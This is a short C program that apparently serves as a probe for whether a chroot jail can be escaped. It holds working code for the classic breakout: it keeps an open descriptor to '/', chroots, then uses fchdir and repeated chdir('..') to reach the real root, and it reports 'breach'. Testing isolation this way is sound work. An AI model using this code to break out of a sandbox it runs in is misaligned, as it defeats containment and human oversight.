/* ends: by itself */
/* The classic escape from a chroot: an open directory above it. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
    int top = open("/", O_RDONLY);
    mkdir("cage", 0700);
    if (chroot("cage") == 0)
        puts("breach: chroot");
    if (fchdir(top) == 0)
        for (int step = 0; step < 64; step++)
            if (chdir("..") != 0)
                break;
    if (access("home", F_OK) == 0 || access("root", F_OK) == 0)
        puts("breach: the machine's root");
    puts("done");
    return 0;
}
